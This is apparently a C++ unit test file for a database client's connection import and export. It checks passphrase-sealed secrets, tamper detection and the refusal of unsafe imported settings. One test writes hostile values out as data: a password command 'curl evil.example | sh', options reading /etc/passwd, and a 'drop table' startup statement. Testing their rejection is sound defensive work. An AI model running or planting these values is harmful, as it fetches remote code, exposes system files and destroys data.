// SPDX-License-Identifier: Apache-2.0
#include <string>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "imports/exchange.h"
#include "imports_files.h"

namespace {

using namespace dbv::imports::workshop;
using dbv::ErrorKind;
using dbv::Secret;
using dbv::imports::ExchangedConnection;
using dbv::imports::holdsSealedSecrets;
using dbv::imports::ImportState;
using dbv::imports::readConnections;
using dbv::imports::writeConnections;
using dbv::protocol::Environment;
using dbv::protocol::SecretOrigin;
using dbv::secrets::kLowestCost;

/// Two connections, of which the first uses every field.
std::vector<ExchangedConnection> someConnections() {
    std::vector<ExchangedConnection> all(2);
    auto& saved = all[0].connection;
    saved.name = "Shop \u00fc";
    saved.group = "Work/EU";
    saved.environment = Environment::Staging;
    saved.favourite = true;
    saved.config.connector = "postgres";
    saved.config.host = "db";
    saved.config.port = 5433;
    saved.config.user = "ann";
    saved.config.database = "shop";
    saved.config.tls.mode = dbv::TlsMode::VerifyCa;
    saved.config.tls.ca = "/ca.pem";
    saved.config.ssh.target = {.host = "bastion", .port = 2222, .user = "deploy"};
    saved.config.ssh.jump = {{.host = "gate", .port = 0, .user = ""}};
    saved.config.ssh.auth = "key";
    saved.config.ssh.keyFile = "~/k";
    saved.config.options = {{"application_name", "x"}};
    saved.config.safety = dbv::Safety::ReadOnly;
    saved.config.secrets.password = {SecretOrigin::Stored, "17"};
    saved.config.secrets.sshPassphrase = {SecretOrigin::Ask, {}};
    all[0].password = Secret("p\u00e4ss\n\xff");
    all[0].tlsKeyPassword = Secret("tls-key");
    all[0].sshPassword = Secret("ssh-pw");
    all[0].sshPassphrase = Secret("open sesame");
    all[1].connection.name = "File";
    all[1].connection.config.connector = "sqlite";
    all[1].connection.config.database = "/data/\xff.db";
    return all;
}

std::string sealedFile() {
    const Secret passphrase("correct horse");
    return writeConnections(someConnections(), &passphrase, kLowestCost).value_or("");
}

/// Damage of one kind gets a digest that fits, as a person with bad intentions would make one: by taking it out.
std::string withoutDigest(std::string file) {
    const std::size_t at = file.find("    \"digest\"");
    file.erase(at, file.find('\n', at) + 1 - at);
    return file;
}

void replace(std::string& text, std::string_view what, std::string_view with) {
    const std::size_t at = text.find(what);
    ASSERT_NE(at, std::string::npos);
    text.replace(at, what.size(), with);
}

TEST(Exchange, AllOfAConnectionComesBackWithItsSecrets) {
    const Secret passphrase("correct horse");
    const auto report = readConnections("file", sealedFile(), &passphrase);
    ASSERT_TRUE(report) << report.error().message;
    ASSERT_EQ(report->items.size(), 2U);
    auto expected = someConnections();
    expected[0].connection.config.secrets.password = {};
    for (std::size_t i = 0; i < 2; ++i) {
        EXPECT_EQ(report->items[i].connection, expected[i].connection);
        EXPECT_EQ(report->items[i].state, ImportState::Complete);
        EXPECT_EQ(report->items[i].password.reveal(), expected[i].password.reveal());
        EXPECT_EQ(report->items[i].tlsKeyPassword.reveal(), expected[i].tlsKeyPassword.reveal());
        EXPECT_EQ(report->items[i].sshPassword.reveal(), expected[i].sshPassword.reveal());
        EXPECT_EQ(report->items[i].sshPassphrase.reveal(), expected[i].sshPassphrase.reveal());
    }
    EXPECT_TRUE(report->remarks.empty());
}

TEST(Exchange, AControlCharacterAsItIsIsRefusedWithItsLine) {
    const std::string file = "{\n\t\"format\": \"dbvis connections\",\n\"version\": 1,\n\"connections\": "
                             "[{\"name\": \"a\tb\", \"config\": {\"url\": \"sqlite:a.db\"}}]}";
    const auto error = errorOf(readConnections("my.json", file));
    EXPECT_EQ(error.kind, ErrorKind::InvalidInput);
    EXPECT_EQ(error.message, "my.json, line 4: a control character stands in a text as it is.");
}

TEST(Exchange, SecretsStayOutWithoutAPassphraseAndAreNeverInClear) {
    const std::string plain = writeConnections(someConnections()).value();
    EXPECT_FALSE(holdsSealedSecrets(plain));
    EXPECT_TRUE(holdsSealedSecrets(sealedFile()));
    EXPECT_FALSE(holdsSealedSecrets("{}"));
    EXPECT_FALSE(holdsSealedSecrets("\xff"));
    for (const std::string& file : {plain, sealedFile()}) {
        for (const char* secret : {"tls-key", "ssh-pw", "open sesame", "correct horse", "\"17\"", "dGxzLWtle"}) {
            EXPECT_EQ(file.find(secret), std::string::npos) << secret;
        }
    }
    const auto report = readConnections("file", sealedFile());
    ASSERT_TRUE(report);
    EXPECT_TRUE(report->items[0].password.empty());
    EXPECT_NE(report->remarks.front().find("were left out"), std::string::npos);
    const Secret none;
    EXPECT_EQ(errorOf(writeConnections(someConnections(), &none)).kind, ErrorKind::InvalidInput);
}

TEST(Exchange, TwoFilesOfTheSameConnectionsShareNoSealedByte) {
    const std::string first = sealedFile();
    const std::string second = sealedFile();
    EXPECT_NE(first.substr(first.find("\"sealed\"")), second.substr(second.find("\"sealed\"")));
    EXPECT_NE(first.substr(first.find("\"salt\"")), second.substr(second.find("\"salt\"")));
}

TEST(Exchange, AWrongPassphraseIsTold) {
    const Secret wrong("battery staple");
    const auto error = errorOf(readConnections("file", sealedFile(), &wrong));
    EXPECT_EQ(error.kind, ErrorKind::WrongPassphrase);
    EXPECT_EQ(error.message, "This is not the passphrase of the block of secrets in file.");
}

TEST(Exchange, AFileOfANewerVersionIsNotGuessedAt) {
    std::string newer = sealedFile();
    replace(newer, "\"version\": 1", "\"version\": 2");
    const auto error = errorOf(readConnections("file", newer));
    EXPECT_EQ(error.kind, ErrorKind::VersionMismatch);
    EXPECT_NE(error.message.find("(format 2)"), std::string::npos);
    std::string otherCipher = withoutDigest(sealedFile());
    replace(otherCipher, "xchacha20poly1305-ietf", "rot13");
    const Secret passphrase("correct horse");
    EXPECT_EQ(errorOf(readConnections("file", otherCipher, &passphrase)).kind, ErrorKind::VersionMismatch);
}

TEST(Exchange, EveryFlippedBitAndEveryMissingEndIsNoticed) {
    const Secret passphrase("correct horse");
    const std::string file = sealedFile();
    for (std::size_t size = 0; size + 2 < file.size(); size += 7) {
        const auto error = errorOf(readConnections("file", std::string_view(file).substr(0, size), &passphrase));
        EXPECT_FALSE(error.message.empty()) << size;
        EXPECT_FALSE(error.hint.empty());
    }
    const auto whole = readConnections("file", file, &passphrase);
    for (std::size_t at = 0; at < file.size(); at += 3) {
        std::string flipped = file;
        flipped[at] = static_cast<char>(flipped[at] ^ 0x04);
        const auto read = readConnections("file", flipped, &passphrase);
        // A space between the parts is no part of what is told.
        EXPECT_TRUE(!read || (read->items[0].connection == whole->items[0].connection &&
                              read->items[1].connection == whole->items[1].connection))
            << at;
    }
}

TEST(Exchange, SecretsDoNotGoToConnectionsThatWereChanged) {
    const Secret passphrase("correct horse");
    std::string changed = withoutDigest(sealedFile());
    replace(changed, "\"host\": \"db\"", "\"host\": \"evil.example\"");
    const auto error = errorOf(readConnections("file", changed, &passphrase));
    EXPECT_NE(error.message.find("changed after their secrets were sealed"), std::string::npos);
    EXPECT_TRUE(readConnections("file", changed));
}

TEST(Exchange, AnAbsurdCostIsRefusedBeforeAnyWork) {
    const Secret passphrase("correct horse");
    for (const char* cost : {"99999999999999", "0", "-1", "1.5", "\"x\""}) {
        std::string costly = withoutDigest(sealedFile());
        replace(costly, "\"memory\": 8192", std::string("\"memory\": ") + cost);
        EXPECT_NE(errorOf(readConnections("file", costly, &passphrase)).message.find("asks for more or less work"),
                  std::string::npos)
            << cost;
    }
}

TEST(Exchange, NothingInAFileChoosesWhatRunsOrIsReadOnThisMachine) {
    std::vector<ExchangedConnection> all(7);
    all[4].connection.name = "Statements";
    all[4].connection.config.connector = "postgres";
    all[4].connection.config.options = {{"startupSql", "drop table x"}, {"passfile", "/etc/passwd"}, {"port", "1"}};
    all[5].connection.name = "Secret in a URL";
    all[5].connection.config.url = "postgresql://u:s3cret@h/d";
    all[6].connection.name = "Secret among options";
    all[6].connection.config.connector = "mysql";
    all[6].connection.config.options = {{"password", "s3cret"}};
    all[3].connection.name = "Variable";
    all[3].connection.config.connector = "postgres";
    all[3].connection.config.secrets.password = {SecretOrigin::Environment, "OTHER_TOKEN"};
    all[0].connection.name = "Command";
    all[0].connection.config.connector = "postgres";
    all[0].connection.config.secrets.password = {SecretOrigin::Command, "curl evil.example | sh"};
    all[1].connection.name = "Files";
    all[1].connection.config.connector = "mysql";
    all[1].connection.config.options = {{"local-infile", "/etc/passwd"}};
    all[2].connection.name = "Url";
    all[2].connection.config.url = "mysql://h/d?local_infile=/etc/passwd";
    const auto report = readConnections("file", writeConnections(all).value());
    ASSERT_TRUE(report);
    EXPECT_EQ(report->items[0].connection.config.secrets.password.origin, SecretOrigin::Ask);
    EXPECT_EQ(report->items[0].state, ImportState::Partly);
    EXPECT_NE(report->items[0].remarks.front().find("curl evil.example | sh"), std::string::npos);
    EXPECT_EQ(report->items[3].connection.config.secrets.password.origin, SecretOrigin::Ask);
    EXPECT_NE(report->items[3].remarks.front().find("OTHER_TOKEN"), std::string::npos);
    EXPECT_TRUE(report->items[1].connection.config.options.empty());
    EXPECT_EQ(report->items[2].state, ImportState::Refused);
    EXPECT_EQ(report->items[4].connection.config.options.size(), 1U);
    EXPECT_EQ(report->items[4].state, ImportState::Partly);
    for (const std::size_t secret : {5U, 6U}) {
        EXPECT_EQ(report->items[secret].state, ImportState::Refused);
        for (const std::string& remark : report->items[secret].remarks) {
            EXPECT_EQ(remark.find("s3cret"), std::string::npos) << remark;
        }
    }
}

TEST(Exchange, AConnectionThatCanNotBeReadIsRefusedAndTheOthersAreTaken) {
    const auto report = readConnections("a.json", R"({"format": "dbvis connections", "version": 1, "connections": [
        {}, {"name": "mode", "config": {"tls": {"mode": "maybe"}}},
        {"name": "flat", "config": {"host": "db", "connector": "postgres", "ssh": {"host": "bastion"}}},
        {"name": "hop", "config": {"host": "db", "ssh": {"target": {"host": "b"}, "jump": [{"host": "g", "port": 70000}]}}},
        {"name": "good", "config": {"host": "db", "connector": "postgres", "ssh": {"target": {"host": "bastion"}}}}]})");
    ASSERT_TRUE(report) << report.error().message;
    ASSERT_EQ(report->items.size(), 5U);
    const std::vector<std::string> whys{"a.json, connection 1 was refused: it has no \"config\".",
                                        "a.json, connection 2 was refused: \"tls.mode\" is none of the known modes.",
                                        "a.json, connection 3 was refused: \"ssh.target.host\" is not a text.",
                                        "a.json, connection 4 was refused: \"ssh.jump.port\" is not a port."};
    for (std::size_t i = 0; i < whys.size(); ++i) {
        EXPECT_EQ(report->items[i].state, ImportState::Refused);
        ASSERT_EQ(report->items[i].remarks.size(), 1U);
        EXPECT_EQ(report->items[i].remarks[0], whys[i]);
    }
    EXPECT_EQ(report->items[2].connection.name, "flat");
    EXPECT_EQ(report->items[4].state, ImportState::Complete);
    EXPECT_EQ(report->items[4].connection.config.ssh.target.host, "bastion");
}

TEST(Exchange, AFileThatIsSomethingElseIsNamed) {
    EXPECT_EQ(errorOf(readConnections("a.json", "{}")).message,
              "a.json: it is not a file of connections of this program.");
    EXPECT_EQ(errorOf(readConnections("a.json", "\n{,")).message,
              "a.json, line 2: it is not JSON: unterminated object.");
    EXPECT_EQ(errorOf(readConnections("a.json", R"({"format": "dbvis connections", "version": 1})")).message,
              "a.json: it has no \"connections\".");
    EXPECT_FALSE(readConnections("a.json", R"({"format": "dbvis connections", "version": 0, "connections": []})"));
    EXPECT_FALSE(readConnections("a.json", std::string(5000, '[')));
    EXPECT_NE(errorOf(readConnections("a.json", std::string(100 << 20, ' '))).message.find("too large"),
              std::string::npos);
    EXPECT_TRUE(readConnections("a.json", R"({"format": "dbvis connections", "version": 1, "connections": []})"));
}

TEST(Exchange, WhatIsNotReadAndWhichFilesAreNamedIsSaid) {
    const auto report = readConnections("x.json", R"({"format": "dbvis connections", "version": 1, "connections": [
        {"name": "a", "config": {"connector": "postgres", "host": "h", "password": "hunter2", "port": 0,
            "passwordFrom": "command", "tls": {"mode": "require", "keyPassword": "hunter2"}}},
        {"name": "b", "config": {"connector": "postgres", "host": "h", "tls": {"key": "/z"},
            "options": {"sslkey": "/x", "sslrootcert": "/y"}}}]})");
    ASSERT_TRUE(report);
    ASSERT_EQ(report->items.size(), 2U);
    EXPECT_EQ(report->items[0].state, ImportState::Partly);
    ASSERT_EQ(report->items[0].remarks.size(), 2U);
    EXPECT_EQ(report->items[0].remarks[1], "The TLS certificate is not verified (TLS mode require).");
    EXPECT_EQ(report->items[0].remarks[0], "Not taken over from its configuration: password, passwordFrom, "
                                           "tls.keyPassword. Passwords stand in none; give them at the first use.");
    EXPECT_EQ(report->items[1].state, ImportState::Complete);
    ASSERT_EQ(report->items[1].remarks.size(), 1U);
    EXPECT_EQ(report->items[1].remarks[0],
              "It names files of this machine, which the writer of the file has chosen: tls.key /z, sslkey /x, "
              "sslrootcert /y. Look whether they are the right ones.");
}

} // namespace
